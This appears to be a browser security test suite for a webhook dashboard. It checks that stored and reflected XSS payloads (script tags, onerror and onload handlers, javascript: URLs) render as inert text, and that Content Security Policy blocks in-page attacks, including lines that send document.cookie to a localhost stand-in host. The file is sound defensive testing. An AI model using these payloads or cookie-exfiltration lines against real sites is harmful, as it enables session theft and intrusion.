import assert from "node:assert/strict";
import { browserTest } from "../support/browser.ts";
import { ENCRYPTION_KEY } from "../support/checked.ts";
import { enter } from "../support/dashboard_pages.ts";
import { ADMIN, startDaemon, type TestDaemon } from "../support/daemon.ts";
import { serverDatabase } from "../support/databases.ts";
import { ALL, assertInert, PAYLOADS } from "../support/inert.ts";
import { startReceiver } from "../support/receiver.ts";
import { until } from "../support/wait.ts";

browserTest("Nothing that anybody else wrote runs on a page", async (browser) => {
  await using database = await serverDatabase();
  await using receiver = await startReceiver((request) => ({
    status: request.path.startsWith("/fails") ? 400 : 200,
    headers: { "Content-Type": "text/html", "X-Evil": "<script>hacked=1</script>" },
    body: `${ALL}\u0000<script>hacked=1</script>`,
  }));
  await using daemon = await startDaemon({
    database: database.section,
    encryption_key: ENCRYPTION_KEY,
    delivery: { retry: ["0s"] },
  });
  const page = await browser.open(daemon.url);
  await enter(page, daemon.url, "operator");
  const paths = await fill(daemon, receiver.url);
  for (const path of paths) await assertInert(page, path);
  // They were there, as text.
  await page.goto(paths.find((path) => path.includes("/events/")) ?? "");
  const shown = await page.getByRole("main").innerText();
  for (const text of ["</title><script>hacked=1</script>", "{{constructor.constructor("]) {
    assert.ok(shown.includes(text), shown);
  }
  for (const payload of [...PAYLOADS, ALL]) {
    await assertInert(page, `/dashboard/search?q=${encodeURIComponent(payload)}`);
  }
  const query = encodeURIComponent(ALL.slice(0, 1_500));
  for (const path of ["deliveries", "audit", "replays/new", "test", "endpoints/new", "verify"]) {
    for (const name of ["status", "endpoint", "type", "code", "since", "cursor", "actor", "q"]) {
      await assertInert(page, `/dashboard/${path}?${name}=${query}`);
    }
  }
  await assertInert(page, `/dashboard/${query}`);
  await assertInert(page, `/dashboard/login?next=${encodeURIComponent("javascript:hacked=1")}`);
});

browserTest("What got into a page by a script would not run either", async (browser) => {
  await using database = await serverDatabase();
  await using daemon = await startDaemon({ database: database.section });
  const page = await browser.open(daemon.url);
  await page.goto("/dashboard/login");
  await page.getByLabel("Admin or viewer token").fill(ADMIN);
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.waitForURL("**/dashboard");
  for (
    const [directive, attack] of [
      ["require-trusted-types-for", "document.body.innerHTML = '<img src=x onerror=hacked=1>'"],
      ["require-trusted-types-for", "new DOMParser().parseFromString('<p>', 'text/html')"],
      [
        "require-trusted-types-for",
        "document.body.setAttribute('onclick', 'hacked=1'); document.body.click()",
      ],
      ["trusted-types", "trustedTypes.createPolicy('evil', { createHTML: (text) => text })"],
      ["connect-src", "fetch('http://localhost:1/?' + document.cookie)"],
      ["img-src", "new Image().src = 'http://localhost:1/' + document.cookie"],
      [
        "form-action",
        `const form = document.createElement("form");
        form.action = "http://localhost:1/"; document.body.append(form); form.submit()`,
      ],
      [
        "base-uri",
        `const base = document.createElement("base");
        base.href = "http://localhost:1/"; document.head.append(base)`,
      ],
      ["style-src", "document.body.setAttribute('style', 'background: red')"],
    ] as const
  ) {
    await page.goto("/dashboard");
    browser.complaints.length = 0;
    await page.evaluate(`(async () => { ${attack} })().catch(() => {})`);
    await until(
      `${directive} stops ${attack}`,
      () => browser.complaints.some((complaint) => complaint.includes(directive)),
    );
    assert.equal(await page.evaluate("typeof hacked"), "undefined", attack);
    assert.equal(page.url(), `${daemon.url}/dashboard`);
  }
  assert.equal(await page.evaluate("document.cookie"), "", "the session's cookie is HttpOnly");
  browser.complaints.length = 0;
});

/** Puts the texts wherever one can be put, and returns the pages that show them. */
async function fill(daemon: TestDaemon, url: string): Promise<readonly string[]> {
  const ask = async (method: string, path: string, body: unknown) => {
    const response = await fetch(`${daemon.url}/api/${path}`, {
      method,
      headers: { authorization: `Bearer ${ADMIN}`, "content-type": "application/json" },
      body: JSON.stringify(body),
    });
    const answer = await response.json();
    assert.ok(response.ok, `${path}: ${JSON.stringify(answer)}`);
    return answer;
  };
  const made: string[] = [];
  const names = PAYLOADS.filter((text, nth) => nth % 9 === 0 && text.length <= 200);
  for (const [nth, description] of names.entries()) {
    const { id } = await ask("POST", "endpoints", {
      url: `${url}/${nth % 2 === 0 ? "fails" : "works"}?q=${encodeURIComponent(description)}`,
      events: ["booking.created"],
      description,
      headers: { "X-Note": "<script>hacked=1</script>" },
    });
    made.push(id);
  }
  await ask("POST", `endpoints/${made[1]}/pause`, { reason: ALL.slice(0, 500) });
  const { body } = await daemon.post({
    event: "booking.created",
    timestamp: "2025-10-31T15:30:00Z",
    data: {
      appointment: {
        id: "apt_1",
        confirmationNumber: "<img src=x onerror=hacked=1>",
        business: { id: "bus_1", name: ALL },
        service: { name: "<svg onload=hacked=1>" },
        customer: { name: ALL },
        appointmentDate: "</time><script>hacked=1</script>",
        startTime: '"><script>hacked=1</script>',
        notes: `${ALL}\u0000\u202e`,
        "<script>hacked=1</script>": PAYLOADS,
      },
    },
  });
  assert.ok(body.id, JSON.stringify(body));
  const deliveries: string[] = [];
  for (const endpoint of [made[0], made[2], made[3]]) {
    const id = await daemon.deliveryId(body.id, endpoint);
    await daemon.delivery(id);
    deliveries.push(id);
  }
  await until("its endpoints have it", async () => {
    const { body: pending } = await daemon.api("deliveries?status=pending");
    return pending.data.length === 1;
  });
  const replay = await ask("POST", "replays", { endpoint: made[0], since: "2026-01-01T00:00:00Z" });
  const tested = await ask("POST", `endpoints/${made[0]}/test`, { event: "booking.created" });
  return [
    "/dashboard",
    "/dashboard/endpoints",
    ...made.map((id) => `/dashboard/endpoints/${id}`),
    ...["pause", "rotate"].map((what) => `/dashboard/endpoints/${made[0]}/${what}`),
    ...["all", "failed", "attention", "delivered"].map((s) => `/dashboard/deliveries?status=${s}`),
    ...deliveries.flatMap((
      id,
    ) => [`/dashboard/deliveries/${id}`, `/dashboard/deliveries/${id}?all`]),
    `/dashboard/events/${body.id}`,
    `/dashboard/test?endpoint=${made[0]}`,
    `/dashboard/test?sent=${tested.event_id}`,
    "/dashboard/replays",
    `/dashboard/replays/${replay.id}`,
    `/dashboard/replays/new?endpoint=${made[0]}&since=2026-01-01T00:00:00Z`,
    "/dashboard/audit",
    "/dashboard/event-types",
  ];
}
